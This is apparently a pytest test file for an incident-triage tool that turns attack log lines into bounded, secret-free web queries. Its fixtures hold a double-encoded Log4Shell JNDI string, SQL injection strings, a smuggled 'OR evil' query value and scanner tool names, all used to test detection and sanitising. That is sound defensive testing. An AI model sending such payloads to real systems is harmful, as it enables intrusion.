"""What is asked of the web."""

import time

import pytest

from tasks.model.incidents import Family
from tasks.research.query import QUERY_LIMIT, find_topics, is_searchable, write_queries
from tests.suspects import make_finding, make_incident

PUBLIC = "45.89.23.12"


@pytest.mark.parametrize("source_ip", [PUBLIC, "8.8.8.8", "2606:4700::1111", "2606:4700::/64"])
def test_a_public_address_is_searched(source_ip):
    """Its reputation is the first question."""
    queries = write_queries(make_incident(source_ip=source_ip), limit=2)

    assert is_searchable(source_ip)
    assert source_ip in queries[0]


@pytest.mark.parametrize(
    "source_ip",
    [
        "10.0.0.1",
        "172.16.5.4",
        "192.168.1.105",
        "127.0.0.1",
        "169.254.169.254",
        "100.64.0.1",
        "192.0.2.1",
        "198.51.100.7",
        "203.0.113.9",
        "198.18.0.1",
        "0.0.0.0",
        "224.0.0.1",
        "240.0.0.1",
        "255.255.255.255",
        "::1",
        "::",
        "fe80::1",
        "fd00::1",
        "ff02::1",
        "2001:db8::1",
        "2001:db8::/64",
        "::ffff:10.0.0.1",
        "no address",
        "8.8.8.8 OR evil",
    ],
)
def test_an_address_that_the_world_cannot_know_is_never_searched(source_ip):
    """Private, reserved, shared, documentation and multicast addresses stay at home."""
    queries = write_queries(make_incident(source_ip=source_ip), limit=20)

    assert not is_searchable(source_ip)
    assert not any(source_ip in query for query in queries)


def test_with_nothing_to_ask_nothing_is_asked():
    """A private address with an attack that has no name gives no query."""
    incident = make_incident(
        source_ip="10.0.0.1",
        lines=["GET /?q=' OR 1=1-- HTTP/1.1"],
    )

    assert write_queries(incident, limit=5) == ()


def test_the_payload_is_asked_by_its_name():
    """Encoded twice is recognised, too."""
    line = "GET /?x=%2524%257Bjndi:ldap://203.0.113.66/a%257D HTTP/1.1"

    queries = write_queries(make_incident(source_ip="10.0.0.1", lines=[line]), limit=2)

    assert queries == ("Log4Shell CVE-2021-44228 SQL injection attack",)


SECRET = "pa55word-of-a-victim"


@pytest.mark.parametrize(
    "line",
    [
        f"GET /wp-login.php?user=root&pass={SECRET} HTTP/1.1",
        f"GET /?q=union select {SECRET} from users HTTP/1.1",
        f"GET /cve-2024-1234567890/{SECRET} HTTP/1.1",
        f"sqlmap nikto nuclei masscan zgrab gobuster wpscan {SECRET} cve-2024-12345" + SECRET * 99,
    ],
)
def test_no_piece_of_a_line_is_ever_in_a_query(line):
    """Only names from our list and well-formed CVE ids leave the house, in bounded length."""
    queries = write_queries(make_incident(source_ip=PUBLIC, lines=[line]), limit=20)

    assert len(queries) in (1, 2)
    assert SECRET not in " ".join(queries)
    assert "root" not in " ".join(queries)
    assert all(len(query) <= QUERY_LIMIT for query in queries)


def test_a_cve_id_in_a_line_or_a_rule_title_is_asked_about():
    """Well-formed and upper case, or not at all."""
    incident = make_incident(
        make_finding(rule_title="Probes for CVE-2023-22515", family=Family.RECONNAISSANCE),
        lines=["GET /cve-2021-41773 HTTP/1.1"],
    )

    assert find_topics(incident) == ("CVE-2021-41773", "CVE-2023-22515")


def test_never_more_queries_than_allowed():
    """The settings bound what one suspect may cost."""
    incident = make_incident(source_ip=PUBLIC, lines=["GET /.env"])

    assert [len(write_queries(incident, limit)) for limit in (0, 1, 2, 20)] == [0, 1, 2, 2]


def test_a_line_that_no_rule_matched_names_nothing():
    """Ordinary traffic of the same address is no payload."""
    incident = make_incident(lines=["GET /.env"])
    innocent = type(incident.evidence[0])("a.log", 1, "GET /.env", ())

    assert find_topics(make_incident(evidence=(innocent,))) == ()
    assert find_topics(incident) == ("exposed .env file",)


def test_a_line_made_of_comments_does_not_hang_the_run():
    """Every way to divide the comments would have been tried: 2^n, with all threads waiting."""
    incident = make_incident(lines=["GET /?q=union" + "/**/" * 24 + "x HTTP/1.1"])

    started = time.process_time()
    topics = find_topics(incident)

    assert "UNION SELECT SQL injection" not in topics
    assert time.process_time() - started < 0.5
